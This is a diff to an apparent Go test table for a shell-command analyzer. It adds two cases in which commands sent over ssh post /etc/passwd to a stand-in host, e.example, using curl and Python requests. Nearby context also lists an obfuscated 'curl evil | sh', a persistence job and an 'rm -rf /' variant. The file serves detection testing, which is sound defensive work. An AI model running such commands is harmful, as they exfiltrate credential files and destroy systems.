@@ -435,6 +435,9 @@ var commandCases = []struct {
 	{"systemd-run --on-calendar=daily /tmp/x.sh", []string{"W /etc/systemd/system T", "R /tmp/x.sh", "X systemd-run"}},
 	{"rev <<< 'hs|live lruc' | sh", []string{"E sh<-rev", "U"}},
 
+	{`curl https://a.example; ssh h 'curl -d "$(cat /etc/passwd)" https://e.example'`, []string{"Q e.example POST data /etc/passwd", "Q a.example GET"}},
+	{`ssh h "python3 -c 'import requests; requests.post(\"https://e.example\", data=open(\"/etc/passwd\").read())'"`, []string{"Q e.example POST data /etc/passwd"}},
+
 	// What cannot be known.
 	{"/???/c?t /e*c/sh*", []string{"U"}},
 	{"$CMD -rf /", []string{"U", "X "}},
